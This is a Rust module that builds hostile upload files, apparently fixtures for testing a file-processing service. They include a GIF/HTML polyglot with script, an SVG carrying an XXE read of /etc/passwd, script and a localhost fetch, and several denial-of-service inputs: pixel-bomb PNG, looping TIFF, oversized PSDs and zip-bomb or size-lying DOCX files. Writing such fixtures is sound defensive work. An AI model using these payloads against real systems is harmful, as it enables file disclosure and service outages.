//! Files that attack the program that opens them, and the functions that build them.

use std::io::{Cursor, Write as _};

use image::{DynamicImage, ImageFormat, RgbImage};
use zip::write::SimpleFileOptions;

/// Valid both as an HTML page and as a GIF.
pub const GIF_PAGE: &[u8] = b"GIF89a/*<html><script>alert(1)</script></html>*/";

/// Runs a script, reads a file and calls a host, if a renderer allows it.
pub const SVG_THAT_RUNS: &[u8] = br#"<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"><script>alert(2)</script>
<image width="9" height="9" href="http://127.0.0.1:9/x.png"/><text>&e;</text></svg>"#;

/// The files with their upload names.
pub fn files() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("page.gif", GIF_PAGE.to_vec()),
        ("script.svg", SVG_THAT_RUNS.to_vec()),
        ("pixels.png", png_of_ten_billion_pixels()),
        ("circle.tif", circling_tiff()),
        ("lengths.psd", psd(9_000, 9_000, b"")),
        ("sections.psd", psd_of_endless_sections()),
        ("burst.docx", bursting_docx()),
        ("lies.docx", lying_docx()),
    ]
}

/// A hundred thousand pixels in width and height, in few bytes.
pub fn png_of_ten_billion_pixels() -> Vec<u8> {
    let header = [&100_000_u32.to_be_bytes()[..], &100_000_u32.to_be_bytes(), &[8, 6, 0, 0, 0]].concat();
    let data = png_chunk(*b"IDAT", &[0x78, 0x9c, 3, 0, 0, 0, 0, 1]);
    [b"\x89PNG\r\n\x1a\n", &png_chunk(*b"IHDR", &header)[..], &data, &png_chunk(*b"IEND", &[])].concat()
}

/// A TIFF whose directory refers to itself as the next one.
pub fn circling_tiff() -> Vec<u8> {
    let mut tiff = Cursor::new(Vec::new());
    DynamicImage::from(RgbImage::new(16, 16)).write_to(&mut tiff, ImageFormat::Tiff).unwrap();
    let mut tiff = tiff.into_inner();
    let first = u32::from_le_bytes(tiff[4..8].try_into().unwrap()) as usize;
    let entries = usize::from(u16::from_le_bytes(tiff[first..first + 2].try_into().unwrap()));
    let next = first + 2 + entries * 12;
    tiff.splice(next..next + 4, u32::try_from(first).unwrap().to_le_bytes());
    tiff
}

/// A PSD whose sections each claim to be four gigabytes long.
pub fn psd_of_endless_sections() -> Vec<u8> {
    let mut bytes = psd(300, 300, &[0; 64]);
    bytes[26..38].fill(0xff);
    bytes
}

/// A document whose text unpacks to 64 MiB.
pub fn bursting_docx() -> Vec<u8> {
    let zeros = vec![0; 64 * 1_024 * 1_024];
    package(&[("[Content_Types].xml", types("wordprocessingml.document").as_bytes()), ("word/a.xml", &zeros)])
}

/// A document that unpacks to 16 MiB, but states 1 KB in the archive's directory and in the part's header.
pub fn lying_docx() -> Vec<u8> {
    let mut lying = package(&[("[Content_Types].xml", &vec![0; 16 * 1_024 * 1_024])]);
    let real = (16_u32 * 1_024 * 1_024).to_le_bytes();
    while let Some(at) = lying.windows(4).position(|window| window == real) {
        lying[at..at + 4].copy_from_slice(&1_024_u32.to_le_bytes());
    }
    lying
}

pub fn types(main: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Override PartName=\"/main.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.{main}.main+xml\"/>\
         </Types>"
    )
}

pub fn package(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, content) in parts {
        archive.start_file(*name, options).unwrap();
        archive.write_all(content).unwrap();
    }
    archive.finish().unwrap().into_inner()
}

pub fn psd(width: u32, height: u32, picture: &[u8]) -> Vec<u8> {
    let mut bytes = b"8BPS\0\x01\0\0\0\0\0\0\0\x03".to_vec();
    bytes.extend(height.to_be_bytes());
    bytes.extend(width.to_be_bytes());
    bytes.extend([0, 8, 0, 3]);
    bytes.extend([0; 12]);
    bytes.extend([0, 0]);
    bytes.extend(picture);
    bytes
}

pub fn png_chunk(name: [u8; 4], data: &[u8]) -> Vec<u8> {
    let mut crc = !0_u32;
    for byte in name.iter().chain(data) {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 };
        }
    }
    let length = u32::try_from(data.len()).unwrap().to_be_bytes();
    [&length[..], &name, data, &(!crc).to_be_bytes()].concat()
}
